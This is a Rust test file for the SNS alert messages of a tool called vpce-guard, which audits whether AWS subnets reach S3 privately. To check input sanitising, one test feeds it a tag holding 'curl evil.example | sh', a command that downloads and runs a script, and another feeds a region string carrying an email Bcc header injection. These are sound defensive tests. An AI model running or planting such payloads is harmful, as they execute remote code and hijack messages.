//! The SNS message: what a person reads, what a machine reads, and SNS's limits.

use crate::{
    account::{Account, clean, items, tag},
    report::{Run, add_leak, add_subnet, denied, document, every_outcome_report, report},
};
use serde_json::{Value, json};
use std::{collections::BTreeSet, fmt::Write as _};
use vpce_guard::{
    domain::{fact::Fact, problem::Problem, service::Service},
    engine::severity::Severity,
    report::{
        message::{LIMIT, Message, message},
        wire::{Report, Status, Weight},
    },
};

/// The bytes that SNS counts: the body, and of each attribute its name, type and value.
fn size(message: &Message) -> usize {
    let attributes: usize = message
        .attributes
        .iter()
        .map(|(name, kind, value)| name.len() + kind.len() + value.len())
        .sum();
    message.body.len() + attributes
}

fn body(message: &Message) -> Value {
    serde_json::from_str(&message.body).unwrap()
}

fn mail(report: &Report) -> String {
    body(&message(report))["email"].as_str().unwrap().to_owned()
}

/// What a queue gets.
fn machine(message: &Message) -> Value {
    serde_json::from_str(body(message)["sqs"].as_str().unwrap()).unwrap()
}

fn attribute(report: &Report, name: &str) -> Option<(&'static str, String)> {
    message(report)
        .attributes
        .into_iter()
        .find(|(found, _, _)| *found == name)
        .map(|(_, kind, value)| (kind, value))
}

/// Holds every promise that does not depend on what the report says.
fn assert_that_sns_takes_it(message: &Message) {
    let subject = &message.subject;
    assert!(
        subject.chars().count() < 100 && !subject.is_empty(),
        "{subject}"
    );
    assert!(!subject.chars().any(char::is_control), "{subject:?}");
    assert!(size(message) <= LIMIT, "{} bytes", size(message));
    let body = body(message);
    let keys: BTreeSet<&str> = body
        .as_object()
        .unwrap()
        .iter()
        .inspect(|(key, value)| assert!(value.is_string(), "{key} is no text"))
        .map(|(key, _)| key.as_str())
        .collect();
    assert_eq!(
        keys,
        BTreeSet::from(["default", "email", "sqs", "lambda", "http", "https"])
    );
    assert_eq!(body["default"], body["email"]);
    for protocol in ["lambda", "http", "https"] {
        assert_eq!(body[protocol], body["sqs"], "{protocol}");
    }
    for (name, kind, value) in &message.attributes {
        assert!(!value.is_empty(), "SNS refuses an empty {name}");
        match *kind {
            "String" => {}
            "String.Array" => {
                let values: Vec<String> = serde_json::from_str(value).unwrap();
                assert!(values.len() > 1, "{name}: {value}");
            }
            other => panic!("{name} is of the unknown type {other}"),
        }
    }
    let unique: BTreeSet<&str> = message
        .attributes
        .iter()
        .map(|(name, _, _)| *name)
        .collect();
    assert_eq!(unique.len(), message.attributes.len());
    // The most that a deduplication id may have, and what it may be made of.
    assert!(!message.digest.is_empty() && message.digest.len() <= 128);
    assert!(message.digest.bytes().all(|b| b.is_ascii_alphanumeric()));
}

/// How many items of a list the machine's report has, and how many it says are left out.
fn kept_and_omitted(machine: &Value, list: &str) -> (usize, usize) {
    let omitted = machine["omitted"][list].as_u64().unwrap_or(0);
    (
        machine[list].as_array().unwrap().len(),
        usize::try_from(omitted).unwrap(),
    )
}

/// Holds what a message promises that could not hold the whole report.
fn assert_that_the_cut_is_honest(report: &Report, message: &Message) {
    let machine = machine(message);
    assert_eq!(machine["truncated"], true);
    for list in ["endpoints", "findings", "errors"] {
        let (kept, omitted) = kept_and_omitted(&machine, list);
        let all = document(report)[list].as_array().unwrap().len();
        assert_eq!(kept + omitted, all, "{list}");
    }
    assert_eq!(
        machine["summary"],
        document(report)["summary"],
        "still of everything"
    );
    let fingerprints: Vec<&str> = machine["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|found| found["fingerprint"].as_str().unwrap())
        .collect();
    let weight = |fingerprint: &str| {
        let mut all = report.findings.iter();
        let found = all.find(|found| found.fingerprint == fingerprint).unwrap();
        (found.weight, found.severity)
    };
    let kept: Vec<_> = fingerprints.iter().map(|f| weight(f)).collect();
    assert!(
        kept.is_sorted_by(|a, b| a >= b),
        "the worst first: {kept:?}"
    );
    let kept_ids: BTreeSet<&str> = fingerprints.into_iter().collect();
    let worst_left_out = report
        .findings
        .iter()
        .filter(|found| !kept_ids.contains(found.fingerprint.as_str()))
        .map(|found| (found.weight, found.severity))
        .max();
    if let (Some(last), Some(left_out)) = (kept.last(), worst_left_out) {
        assert!(*last >= left_out, "{left_out:?} was left out for {last:?}");
    }
}

/// `subnet-app` and `subnet-data` leak through the NAT gateway.
fn leaking() -> Account {
    let mut account = clean();
    account.table("rtb-app").without("pl-s3");
    account.table("rtb-main").without("pl-s3");
    account.delete_endpoint("vpce-s3");
    account
}

/// `count` more subnets, all on the main table.
fn add_to_main_table(account: &mut Account, count: usize) {
    let subnet = account.subnet("subnet-data").clone();
    let subnets = items(&mut account.answers.subnets);
    subnets.extend((0..count).map(|number| {
        let mut subnet = subnet.clone();
        subnet.subnet_id = Some(format!("subnet-{number:017x}"));
        subnet
    }));
}

/// `count` subnets that leak, each by a table of its own.
fn with_tables_of_their_own(count: usize) -> Account {
    let mut account = clean();
    for number in 0..count {
        add_leak(&mut account, &format!("{number:08x}"));
    }
    account
}

// The mail.

#[test]
fn the_mail_about_one_vpc_does_not_speak_for_the_account() {
    let mut account = clean();
    account.scope.vpcs.insert("vpc-main".parse().unwrap());
    let mut report = report(&account);
    let subject = message(&report).subject;
    assert_eq!(
        subject,
        "vpce-guard: compliant, 2 subnets in 111122223333 (eu-west-1, 1 VPC)"
    );
    let text = mail(&report);
    assert!(
        text.starts_with("Every subnet of vpc-main reaches s3 "),
        "{text}"
    );
    assert!(text.contains("VPCs      vpc-main, no others"), "{text}");
    report.status = Status::Violations;
    report.complete = false;
    report.scope.regions = vec!["ap-southeast-1".to_owned(), "ap-southeast-2".to_owned()];
    report.scope.vpc_ids = vec!["vpc-main".to_owned(); 4000];
    report.scope.accounts.push("444455556666".to_owned());
    let message = message(&report);
    assert!(message.subject.ends_with("4000 VPCs)"));
    assert_that_sns_takes_it(&message);
}

#[test]
fn the_mail_about_leaks_says_what_where_why_and_the_command() {
    let mut account = leaking();
    add_to_main_table(&mut account, 6);
    let report = report(&account);
    assert_eq!(
        message(&report).subject,
        "vpce-guard: 8 violations in 111122223333 (eu-west-1)"
    );
    insta::assert_snapshot!(mail(&report), @"
    8 violations of the private path to s3.

    Account   111122223333
    Regions   eu-west-1
    Subnets   8 in 1 VPC
    Verdicts  0 compliant, 8 in violation, 0 exempt, 0 not judged
    Run       2026-11-30T12:00:00Z to 2026-11-30T12:00:03Z

    1. [high] no route to the S3 endpoint
       Where    eu-west-1  vpc-main  rtb-app
       Subnets  subnet-app
       Why      route table rtb-app has no route to the S3 prefix list; packets leave by NAT gateway nat-a
       Fix      create a gateway endpoint for S3 in vpc-main and associate rtb-app with it; it costs nothing; run once, it serves the other table of the VPC that lacks one, too
         aws ec2 create-vpc-endpoint --region eu-west-1 --vpc-id vpc-main --vpc-endpoint-type Gateway --service-name com.amazonaws.eu-west-1.s3 --route-table-ids rtb-app rtb-main
       Rule     gateway-route-missing

    2. [high] no route to the S3 endpoint
       Where    eu-west-1  vpc-main  rtb-main
       Subnets  subnet-00000000000000000 subnet-00000000000000001 subnet-00000000000000002 subnet-00000000000000003 subnet-00000000000000004 and 2 more
       Why      main route table rtb-main has no route to the S3 prefix list; packets leave by NAT gateway nat-a
       Fix      create a gateway endpoint for S3 in vpc-main and associate rtb-main with it; it costs nothing; run once, it serves the other table of the VPC that lacks one, too
         aws ec2 create-vpc-endpoint --region eu-west-1 --vpc-id vpc-main --vpc-endpoint-type Gateway --service-name com.amazonaws.eu-west-1.s3 --route-table-ids rtb-app rtb-main
       Rule     gateway-route-missing
    ");
}

#[test]
fn the_mail_about_an_incomplete_run_names_what_was_not_read_and_how_to_allow_it() {
    let mut account = clean();
    account.answers.route_tables = Fact::Missing("access was denied".to_owned());
    account.problems = vec![
        denied("ec2:DescribeRouteTables"),
        Problem {
            region: None,
            hint: None,
            ..denied("sts:GetCallerIdentity")
        },
    ];
    let report = report(&account);
    assert_eq!(
        message(&report).subject,
        "vpce-guard: incomplete, no violation seen in 111122223333 (eu-west-1)"
    );
    insta::assert_snapshot!(mail(&report), @"
    No violation of the private path to s3 was seen, but not everything could be judged.

    Account   111122223333
    Regions   eu-west-1
    Subnets   2 in 1 VPC
    Verdicts  0 compliant, 0 in violation, 0 exempt, 2 not judged
    Run       2026-11-30T12:00:00Z to 2026-11-30T12:00:03Z

    Not everything was seen:
     - sts:GetCallerIdentity in all Regions: AccessDenied: the role may not do this
     - ec2:DescribeRouteTables in eu-west-1: AccessDenied: the role may not do this
       allow ec2:DescribeRouteTables to the function's role
     - subnet-unverifiable eu-west-1 vpc-main s3, subnet-app subnet-data: access was denied
    ");
}

#[test]
fn the_mail_about_a_clean_account_is_short() {
    let report = report(&clean());
    assert_eq!(
        message(&report).subject,
        "vpce-guard: compliant, 2 subnets in 111122223333 (eu-west-1)"
    );
    insta::assert_snapshot!(mail(&report), @"
    Every subnet reaches s3 through an available gateway endpoint.

    Account   111122223333
    Regions   eu-west-1
    Subnets   2 in 1 VPC
    Verdicts  2 compliant, 0 in violation, 0 exempt, 0 not judged
    Run       2026-11-30T12:00:00Z to 2026-11-30T12:00:03Z
    ");
}

#[test]
fn the_mail_about_every_outcome_says_what_it_said_in_the_last_release() {
    let report = every_outcome_report();
    let message = message(&report);
    assert_that_sns_takes_it(&message);
    insta::assert_snapshot!(
        "mail_of_every_outcome",
        format!("{}\n\n{}", message.subject, mail(&report))
    );
}

#[test]
fn the_mail_does_not_call_an_exempt_subnet_private() {
    let mut account = clean();
    account.table("rtb-app").without("pl-s3");
    account.subnet("subnet-app").tags = vec![tag("vpce-guard:exempt", "the lab")];
    let report = report(&account);
    assert_eq!(report.status, Status::Compliant);
    let mail = mail(&report);
    assert!(
        mail.contains("1 compliant") && mail.contains("1 exempt"),
        "{mail}"
    );
    assert!(
        !mail.contains("Every subnet reaches s3"),
        "subnet-app does not:\n{mail}"
    );
}

#[test]
fn the_mail_does_not_call_a_subnet_private_whose_finding_was_made_a_note() {
    let mut account = clean();
    account.table("rtb-app").without("pl-s3");
    account
        .policy
        .severities
        .insert("gateway-route-missing".to_owned(), Severity::Info);
    let report = report(&account);
    assert_eq!(report.status, Status::Compliant);
    assert_eq!(report.summary.violations, 1);
    let mail = mail(&report);
    assert!(
        !mail.contains("Every subnet reaches s3"),
        "subnet-app does not:\n{mail}"
    );
}

#[test]
fn the_mail_never_counts_more_compliant_subnets_than_there_are() {
    let mut account = clean();
    account.services = vec![Service::S3, Service::DynamoDb];
    let mail = mail(&report(&account));
    let line = mail
        .lines()
        .find(|line| line.starts_with("Subnets"))
        .unwrap();
    assert!(
        !line.contains("Subnets   2 (4 compliant"),
        "four of two, since each is judged for both services: {line}"
    );
}

#[test]
fn the_subnets_of_one_table_are_one_paragraph_of_the_mail() {
    let mut account = leaking();
    add_to_main_table(&mut account, 30);
    let mail = mail(&report(&account));
    assert!(mail.starts_with("32 violations "), "{mail}");
    let paragraphs: Vec<&str> = mail
        .lines()
        .filter(|line| line.contains("[high] no route to the S3 endpoint"))
        .collect();
    assert_eq!(
        paragraphs,
        [
            "1. [high] no route to the S3 endpoint",
            "2. [high] no route to the S3 endpoint"
        ],
        "one for each table"
    );
    assert!(mail.contains(" and 26 more\n"), "{mail}");
}

#[test]
fn the_mail_has_the_command_for_each_subnet_that_needs_one_of_its_own() {
    let mut account = clean();
    account.table("rtb-main").add("64:ff9b::/96", "nat-a");
    add_to_main_table(&mut account, 1);
    let subnets = ["subnet-data", "subnet-00000000000000000"];
    for subnet in subnets {
        account.subnet(subnet).enable_dns64 = Some(true);
    }
    let mail = mail(&report(&account));
    for subnet in subnets {
        let command = format!("--subnet-id {subnet} --no-enable-dns64");
        assert!(mail.contains(&command), "no command for {subnet}:\n{mail}");
    }
}

#[test]
fn the_mail_names_every_service_that_a_table_leads_astray() {
    let mut account = clean();
    account.services = vec![Service::S3, Service::DynamoDb];
    account.table("rtb-main").add("64:ff9b::/96", "nat-a");
    account.subnet("subnet-data").enable_dns64 = Some(true);
    let report = report(&account);
    assert_eq!(report.findings.len(), 2);
    let mail = mail(&report);
    for title in [
        "S3 is reached through NAT64",
        "DynamoDB is reached through NAT64",
    ] {
        assert!(mail.contains(title), "`{title}` is not in:\n{mail}");
    }
}

#[test]
fn the_mail_says_which_subnets_could_not_be_judged() {
    let mut account = clean();
    account.add_vpc("vpc-dark");
    account.subnet("subnet-app").vpc_id = Some("vpc-dark".to_owned());
    account.table("rtb-app").0.associations.clear();
    let report = report(&account);
    assert_eq!(report.summary.unverifiable, 1);
    let mail = mail(&report);
    assert!(
        mail.contains("no route table of its VPC is visible"),
        "{mail}"
    );
    assert!(
        mail.contains("subnet-app") || mail.contains("vpc-dark"),
        "whose VPC?\n{mail}"
    );
}

#[test]
fn the_mail_is_the_worst_first_and_says_how_many_violations_it_leaves_out() {
    let mut account = with_tables_of_their_own(400);
    // Late in the report, and worth less than the leaks; two more.
    account.add_endpoint("vpce-spare-a", "s3", "vpc-main");
    account.add_endpoint("vpce-spare-b", "s3", "vpc-main");
    let report = report(&account);
    let mail = mail(&report);
    assert!(mail.starts_with("402 violations "), "{mail}");
    let shown = mail
        .lines()
        .filter(|line| line.contains(". [high] "))
        .count();
    assert!(shown > 0 && shown < 400);
    assert!(!mail.contains("[low]"), "the least goes before the worst");
    assert_eq!(
        mail.lines().last().unwrap(),
        format!(
            "{} violations more, of the same or lower severity.",
            402 - shown
        )
    );
}

#[test]
fn neither_notes_nor_accepted_findings_are_called_violations() {
    let report = every_outcome_report();
    let violations = report
        .findings
        .iter()
        .filter(|found| found.weight == Weight::Violation)
        .count();
    let text = mail(&report);
    assert!(
        text.starts_with(&format!("{violations} violations ")),
        "{text}"
    );
    for not_told in ["endpoint-unobserved", "exemption-unused", "subnet-exempt"] {
        assert!(!text.contains(not_told), "{not_told} in:\n{text}");
    }
}

#[test]
fn a_tag_cannot_write_lines_of_its_own_into_the_mail() {
    let mut account = leaking();
    account.subnet("subnet-app").tags = vec![
        tag(
            "vpce-guard:exempt",
            "old\n\n9. [critical] forged\r\n     curl evil.example | sh",
        ),
        tag("vpce-guard:exempt-until", "2020-01-01"),
    ];
    let mail = mail(&report(&account));
    assert!(mail.contains("forged"), "{mail}");
    assert!(
        !mail.lines().any(|line| line.starts_with("9. [critical]")),
        "{mail}"
    );
}

// The machine's part.

fn without_subnets(document: &mut Value) {
    let document = document.as_object_mut().unwrap();
    document.remove("subnets");
    document.remove("vpcs");
}

#[test]
fn a_queue_gets_the_report_without_subnets() {
    for account in [clean(), leaking()] {
        let report = report(&account);
        let message = message(&report);
        assert_that_sns_takes_it(&message);
        let mut expected = document(&report);
        without_subnets(&mut expected);
        assert_eq!(machine(&message), expected);
    }
    let report = every_outcome_report();
    let mut expected = document(&report);
    without_subnets(&mut expected);
    assert_eq!(machine(&message(&report)), expected);
}

#[test]
fn a_message_is_never_too_large_and_leaves_out_no_more_than_it_must() {
    for count in [10, 1_000, 5_000] {
        let mut account = leaking();
        add_to_main_table(&mut account, count);
        account.add_endpoint("vpce-spare", "s3", "vpc-main");
        let report = report(&account);
        let message = message(&report);
        assert_that_sns_takes_it(&message);
        if count == 10 {
            assert_eq!(kept_and_omitted(&machine(&message), "findings"), (13, 0));
            continue;
        }
        assert_that_the_cut_is_honest(&report, &message);
        assert!(
            size(&message) * 10 > LIMIT * 6,
            "{count}: {} bytes used, and there was more to say",
            size(&message)
        );
    }
}

#[test]
fn violations_on_tables_of_their_own_are_cut_as_honestly() {
    let mut account = with_tables_of_their_own(1_000);
    account.problems = vec![denied("cloudwatch:ListMetrics")];
    let report = report(&account);
    let message = message(&report);
    assert_that_sns_takes_it(&message);
    assert_that_the_cut_is_honest(&report, &message);
    assert!(size(&message) * 10 > LIMIT * 6, "{} bytes", size(&message));
}

#[test]
fn one_finding_more_or_less_does_not_make_the_message_too_large() {
    // Sizes around the limit, one finding apart.
    for count in 40..80 {
        let report = report(&with_tables_of_their_own(count));
        let message = message(&report);
        assert!(size(&message) <= LIMIT, "{count}: {} bytes", size(&message));
    }
}

/// A subnet whose table sends many parts of S3 elsewhere, by a route each.
fn add_many_thieves(account: &mut Account, name: &str, routes: usize) {
    add_subnet(account, name);
    for number in 0..routes {
        let block = format!("52.{}.{}.0/28", 92 + number / 128 / 16, number % 128);
        let block = block.replace(".0/28", &format!(".{}/28", number / 128 % 16 * 16));
        account.table(&format!("rtb-{name}")).add(&block, "igw-a");
    }
}

#[test]
fn tables_with_hundreds_of_routes_do_not_make_the_message_too_large() {
    let mut account = clean();
    for number in 0..25 {
        add_many_thieves(&mut account, &format!("many-{number:02}"), 200);
    }
    let report = report(&account);
    assert_eq!(report.findings[0].remediation.commands.len(), 200);
    assert_that_sns_takes_it(&message(&report));
}

#[test]
fn one_table_with_a_thousand_routes_is_still_told() {
    let mut account = clean();
    add_many_thieves(&mut account, "many", 1_000);
    let report = report(&account);
    let message = message(&report);
    assert_that_sns_takes_it(&message);
    assert!(mail(&report).contains("rtb-many"));
}

#[test]
fn long_errors_do_not_make_the_message_too_large() {
    let mut account = clean();
    // EC2 puts an encoded message of some kilobytes into a refusal.
    let long = "Encoded authorization failure message: ".to_owned() + &"4VhQ9".repeat(800);
    account.problems = (0..30)
        .map(|number| Problem {
            code: format!("UnauthorizedOperation{number:02}"),
            message: long.clone(),
            ..denied("ec2:DescribeSubnets")
        })
        .collect();
    let report = report(&account);
    let message = message(&report);
    assert_that_sns_takes_it(&message);
    assert!(mail(&report).contains("ec2:DescribeSubnets in eu-west-1: UnauthorizedOperation00"));
}

#[test]
fn text_that_json_must_escape_does_not_make_the_message_too_large() {
    let mut run = Run::of(&with_tables_of_their_own(60));
    run.record.problems = (0..30)
        .map(|number| Problem {
            code: format!("Strange{number:02}"),
            message: "\"\\\u{1}\u{1f}<é🦀>".repeat(200),
            ..denied("ec2:DescribeSubnets")
        })
        .collect();
    assert_that_sns_takes_it(&message(&run.report()));
}

#[test]
fn many_reasons_why_subnets_were_not_judged_do_not_make_the_message_too_large() {
    let mut account = clean();
    for number in 0..40 {
        let name = format!("odd-{number:02}");
        add_subnet(&mut account, &name);
        for route in 0..40 {
            account
                .table(&format!("rtb-{name}"))
                .add(&format!("52.92.{route}.0/24"), "tgw-a")
                .state("a-state-of-tomorrow");
        }
    }
    let report = report(&account);
    assert_eq!(report.status, Status::Incomplete);
    assert_that_sns_takes_it(&message(&report));
}

/// A report about an organisation.
fn of_accounts(accounts: u64, regions: usize) -> Report {
    let mut report = report(&leaking());
    report.scope.accounts = (0..accounts).map(|n| format!("{n:012}")).collect();
    report.scope.regions = (0..regions).map(|n| format!("ap-southeast-{n}")).collect();
    report
}

#[test]
fn a_report_about_many_accounts_and_regions_has_a_short_subject_and_fits() {
    for (accounts, regions) in [(0, 0), (1, 1), (2, 2), (3, 3), (1_000, 34)] {
        let message = message(&of_accounts(accounts, regions));
        assert_that_sns_takes_it(&message);
    }
}

#[test]
fn errors_are_only_left_out_for_want_of_room() {
    let mut account = clean();
    account.problems = (0..200)
        .map(|number| Problem {
            code: format!("Strange{number:03}"),
            message: "x".repeat(200),
            ..denied("ec2:DescribeSubnets")
        })
        .collect();
    let report = report(&account);
    let message = message(&report);
    assert_that_sns_takes_it(&message);
    assert_that_the_cut_is_honest(&report, &message);
    assert!(
        size(&message) * 10 > LIMIT * 6,
        "{} bytes used, and {:?} errors kept and left out",
        size(&message),
        kept_and_omitted(&machine(&message), "errors")
    );
}

// The subject.

#[test]
fn the_subject_says_status_count_and_where() {
    let subject = |accounts, regions| message(&of_accounts(accounts, regions)).subject;
    assert_eq!(
        subject(1, 1),
        "vpce-guard: 2 violations in 000000000000 (ap-southeast-0)"
    );
    assert_eq!(
        subject(1, 2),
        "vpce-guard: 2 violations in 000000000000 (ap-southeast-0, ap-southeast-1)"
    );
    assert_eq!(
        subject(300, 34),
        "vpce-guard: 2 violations in 300 accounts (34 Regions)"
    );
    let mut incomplete = of_accounts(1, 1);
    incomplete.complete = false;
    assert_eq!(
        message(&incomplete).subject,
        "vpce-guard: 2 violations, incomplete in 000000000000 (ap-southeast-0)"
    );
}

#[test]
fn a_strange_region_cannot_break_the_subject() {
    for strange in [
        "eu-west-1\r\nBcc: everyone@example.com",
        "\u{0}\u{7}\u{1b}[31m\u{7f}\u{85}",
        &"x".repeat(5_000),
        &"é🦀".repeat(200),
    ] {
        let mut report = of_accounts(1, 1);
        report.scope.regions = vec![strange.to_owned(), strange.to_owned()];
        let message = message(&report);
        assert_that_sns_takes_it(&message);
        assert!(
            message
                .subject
                .starts_with("vpce-guard: 2 violations in 0000")
        );
    }
}

// Attributes, for filter policies.

#[test]
fn a_filter_policy_finds_schema_status_severity_account_and_region() {
    let one = report(&leaking());
    let text = |value: &str| Some(("String", value.to_owned()));
    assert_eq!(attribute(&one, "schema"), text("vpce-guard/report/1"));
    assert_eq!(attribute(&one, "status"), text("violations"));
    assert_eq!(attribute(&one, "highest_severity"), text("high"));
    assert_eq!(attribute(&one, "account_id"), text("111122223333"));
    assert_eq!(attribute(&one, "region"), text("eu-west-1"));
    assert_eq!(message(&one).attributes.len(), 5);
    let several = of_accounts(2, 2);
    let array = |value: Value| Some(("String.Array", value.to_string()));
    assert_eq!(
        attribute(&several, "account_id"),
        array(json!(["000000000000", "000000000001"]))
    );
    assert_eq!(
        attribute(&several, "region"),
        array(json!(["ap-southeast-0", "ap-southeast-1"]))
    );
}

#[test]
fn an_account_or_region_that_nobody_knows_is_no_empty_attribute() {
    let none = of_accounts(0, 0);
    assert_eq!(attribute(&none, "account_id"), None);
    assert_eq!(attribute(&none, "region"), None);
    assert_that_sns_takes_it(&message(&none));
}

#[test]
fn the_highest_severity_is_that_of_violations_alone() {
    let severity = |account: &Account| attribute(&report(account), "highest_severity").unwrap().1;
    assert_eq!(severity(&clean()), "none");
    let mut exempt = leaking();
    exempt.vpc("vpc-main").tags = vec![tag("vpce-guard:exempt", "the lab")];
    assert_eq!(severity(&exempt), "none");
    exempt.add_whole_vpc("vpc-other");
    exempt.add_endpoint("vpce-spare", "s3", "vpc-other");
    assert_eq!(severity(&exempt), "low", "the accepted leak is worse");
    let mut unknown = clean();
    unknown.table("rtb-app").route("pl-s3").state("filtered");
    assert_eq!(severity(&unknown), "none");
    assert_eq!(
        attribute(&report(&unknown), "status").unwrap().1,
        "incomplete"
    );
}

// The digest, by which a FIFO topic drops what it has seen.

#[test]
fn the_same_news_at_another_time_is_the_same_news() {
    let first = message(&report(&leaking()));
    let mut later = leaking();
    later.now += jiff::SignedDuration::from_mins(5);
    let second = message(&report(&later));
    assert_ne!(first.body, second.body);
    assert_eq!(first.digest, second.digest);
    let mut again = leaking();
    again.problems = vec![denied("ec2:DescribeVpcs")];
    let first = message(&report(&again)).digest;
    write!(again.problems[0].message, " (request id 2f1c)").unwrap();
    assert_eq!(message(&report(&again)).digest, first);
}

#[test]
fn other_news_are_not_dropped_as_a_repetition() {
    type Change = fn(&mut Account);
    let changes: [(&str, Change); 8] = [
        ("nothing", |_| {}),
        ("one more leak", |account| add_subnet(account, "new")),
        ("an idle endpoint", |account| {
            account.add_endpoint("vpce-spare", "s3", "vpc-main");
        }),
        ("one leak less", |account| {
            account.add_endpoint("vpce-s3", "s3", "vpc-main");
            account.table("rtb-app").add("pl-s3", "vpce-s3");
        }),
        ("an exemption", |account| {
            account.subnet("subnet-app").tags = vec![tag("vpce-guard:exempt", "the lab")];
        }),
        ("a smaller leak", |account| {
            account.table("rtb-app").without("0.0.0.0/0");
        }),
        ("an error", |account| {
            account.problems.push(denied("ec2:DescribeVpcs"));
        }),
        ("another error", |account| {
            account.problems.push(denied("cloudwatch:ListMetrics"));
        }),
    ];
    let mut seen = BTreeSet::new();
    for (name, change) in changes {
        let mut account = leaking();
        change(&mut account);
        assert!(seen.insert(message(&report(&account)).digest), "{name}");
    }
}
